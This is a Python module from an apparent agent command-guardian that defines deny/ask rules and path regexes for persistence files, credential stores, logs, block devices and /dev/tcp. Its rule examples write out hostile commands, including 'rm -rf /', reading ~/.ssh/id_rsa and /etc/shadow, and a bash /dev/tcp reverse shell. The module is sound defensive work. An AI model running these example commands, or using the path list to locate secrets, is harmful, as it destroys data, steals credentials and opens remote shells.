"""Rules about where a command writes or what it reads, by resolved path.

Parts:
    the static path-policy rules (FS-001..004, CONF-001/002, SYS-001) that
        `paths.judge_write` names;
    PATH_RULES: (rule, mode, regex) over resolved absolute paths: persistence
        files, logs and shell history, credentials, block devices, /dev/tcp;
    path_hits: resolved path + mode -> the rules that match.
"""

from __future__ import annotations

import re

from tether.guardian.rules import Rule, static_rule
from tether.guardian.secrets_table import HOST_ESCAPE, STORE_PATHS

TYPE_CHECKING = False  # not typing's: the per-call hook imports this module, and typing costs it ~2.5 ms
if TYPE_CHECKING:
    from typing import Literal

    Mode = Literal["read", "write"]
else:
    Mode = str  # what the annotations name at run time (they are strings; nothing validates against it)

static_rule("FS-001", "filesystem-destruction", "deny",
            "recursive delete of a path with fewer components than the minimum write depth",
            "rm -rf /", "rm")
static_rule("FS-002", "filesystem-destruction", "deny",
            "write, delete, move or chmod of a path shallower than the minimum write depth",
            "mv /etc /etc.bak", "")
static_rule("FS-003", "filesystem-destruction", "ask",
            "recursive delete of the whole workspace, or moving it away", "rm -rf .", "rm")
static_rule("FS-004", "filesystem-destruction", "ask",
            "delete of a path that cannot be resolved statically", "rm -rf \"$DIR\"", "rm")
static_rule("CONF-001", "outside-workspace", "ask",
            "write outside the workspace and scratch space", "cp a.txt /home/tether/other/a.txt", "")
static_rule("CONF-002", "outside-workspace", "ask",
            "write to a path that cannot be resolved statically", "echo x > \"$OUT\"", "")
static_rule("SYS-001", "system-config", "deny",
            "write into a system directory (/etc, /usr, /bin, /boot, /var, /root, ...)",
            "echo x > /etc/hosts.allow", "")

_HOME = r"(?:/home/[^/]+|/root|/Users/[^/]+)"


def _p(rule: Rule, mode: Mode, pattern: str) -> tuple[Rule, Mode, re.Pattern[str]]:
    return rule, mode, re.compile(pattern)


PATH_RULES = [
    _p(static_rule("PERSIST-001", "persistence", "deny", "write to a shell startup file",
                   "echo 'alias ls=rm' >> ~/.bashrc"), "write",
       rf"^{_HOME}/\.(?:bashrc|bash_profile|bash_login|bash_logout|bash_aliases|profile|zshrc|"
       r"zprofile|zshenv|zlogin|zlogout|kshrc|cshrc|tcshrc|login|mkshrc|inputrc|"
       r"config/fish/(?:config\.fish|conf\.d/.*)|xinitrc|xsession|xsessionrc|xprofile|"
       r"pam_environment|config/environment\.d/.*)$|^/etc/(?:bash\.bashrc|profile|"
       r"zsh/zshrc|zsh/zshenv|environment|bashrc)$"),
    _p(static_rule("PERSIST-006", "persistence", "deny",
                   "write to a config file that makes a program run commands (ssh config, "
                   "gitconfig, vimrc, gdbinit, tmux/screen rc, pip/npm config)",
                   "echo 'ProxyCommand sh -c x' >> ~/.ssh/config"), "write",
       rf"^{_HOME}/(?:\.ssh/(?:config|environment)|\.gitconfig|\.config/git/(?:config|attributes)|"
       r"\.vimrc|\.exrc|\.gvimrc|\.vim/(?:plugin|autoload|ftplugin)/|\.config/nvim/|"
       r"\.gdbinit|\.lldbinit|\.tmux\.conf|\.config/tmux/|\.screenrc|\.wgetrc|\.curlrc|"
       r"\.npmrc|\.yarnrc|\.pip/pip\.conf|\.config/pip/pip\.conf|\.pydistutils\.cfg|"
       r"\.gemrc|\.irbrc|\.pythonrc|\.perldb|\.config/pythonstartup|\.local/bin/|"
       r"\.emacs|\.emacs\.d/init\.el|\.config/direnv/|\.envrc$)|^/etc/(?:gitconfig|vim/|"
       r"ssh/ssh_config|ld\.so\.conf|sudoers|apt/apt\.conf)"),
    _p(static_rule("PERSIST-007", "persistence", "ask",
                   "write to git hooks or git config (run by git on the host later)",
                   "cp x .git/hooks/pre-commit"), "write", r"/\.git/(?:hooks/|config$)"),
    _p(static_rule("PERSIST-002", "persistence", "deny", "write to SSH authorized_keys",
                   "echo key >> ~/.ssh/authorized_keys"), "write",
       r"/\.ssh/authorized_keys2?$|/\.ssh/rc$|^/etc/ssh/"),
    _p(static_rule("PERSIST-003", "persistence", "deny",
                   "write to systemd units, init scripts, cron or profile.d",
                   "cp x.service /etc/systemd/system/x.service"), "write",
       rf"^/etc/(?:systemd|init\.d|init|rc\.local|rc\d\.d|cron|crontab|anacrontab|profile\.d|"
       rf"xdg/autostart|ld\.so\.preload|update-motd\.d)|^/var/spool/cron|^/usr/lib/systemd|"
       rf"^/lib/systemd|^{_HOME}/\.config/(?:systemd|autostart)(?:/|$)|^{_HOME}/Library/LaunchAgents"),
    _p(static_rule("LOG-002", "log-tampering", "deny",
                   "write, truncation or deletion of system logs or shell history",
                   "> /var/log/auth.log"), "write",
       rf"^/var/log/|^{_HOME}/\.(?:bash|zsh|sh|python)_history$|^{_HOME}/\.zhistory$|"
       r"^/var/(?:run|adm)/(?:utmp|wtmp|btmp|lastlog)$"),
    _p(static_rule("CRED-001", "credential-access", "deny", "access to SSH or GPG private keys",
                   "cat ~/.ssh/id_rsa"), "read",
       r"/\.ssh/(?:id_[^/]*(?<!\.pub)|identity)$|/\.ssh/[^/]*(?:_rsa|_ed25519|_ecdsa|_dsa)$|"
       r"/\.gnupg/(?:private-keys|secring)|^/etc/ssh/ssh_host_[^/]*_key$"),
    _p(static_rule("CRED-002", "credential-access", "ask",
                   "access to cloud, registry or tool credential files",
                   "cat ~/.aws/credentials"), "read",
       rf"^{_HOME}/(?:\.aws/(?:credentials|config)|\.config/gcloud/|\.azure/|\.kube/config|"
       r"\.docker/config\.json|\.netrc|\.git-credentials|\.npmrc|\.pypirc|\.config/gh/hosts|"
       r"\.vault-token|\.terraform\.d/credentials|\.config/doppler|\.pgpass|\.my\.cnf)"),
    _p(static_rule("CRED-003", "credential-access", "deny",
                   "access to system password and sudoers databases",
                   "cat /etc/shadow"), "read",
       r"^/etc/(?:shadow|gshadow|shadow-|gshadow-|sudoers|security/opasswd|master\.passwd)"),
    _p(static_rule("CRED-004", "credential-access", "ask",
                   "reading another process's environment or memory",
                   "cat /proc/1/environ"), "read",
       r"^/proc/[^/]+/(?:environ|mem|maps)$"),
    _p(static_rule("CRED-006", "credential-access", "ask",
                   "access to a browser password or cookie store, a keyring, a password store or a "
                   "mounted service-account secret", "cat ~/.mozilla/firefox/x.default/logins.json"),
       "read", STORE_PATHS),
    _p(static_rule("CTR-006", "container-escape", "deny",
                   "reaches the host through another process's root or cwd (/proc/PID/root) or sysrq",
                   "cat /proc/1/root/etc/shadow"), "read", HOST_ESCAPE),
    _p(static_rule("DISK-004", "device-write", "deny", "write to a raw block device",
                   "cat image.iso > /dev/sda"), "write",
       r"^/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|loop|md|dm-|mapper/|sr|fd\d|mem$|kmem$|port$)"),
    _p(static_rule("SHELL-001", "reverse-shell", "deny",
                   "bash /dev/tcp or /dev/udp network redirection",
                   "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"), "read",
       r"^/dev/(?:tcp|udp)/"),
]


def path_hits(path: str, mode: Mode) -> list[Rule]:
    """Path rules matching `path`; read-mode rules also match writes."""
    return [r for r, m, rx in PATH_RULES if (m == "read" or mode == "write") and rx.search(path)]
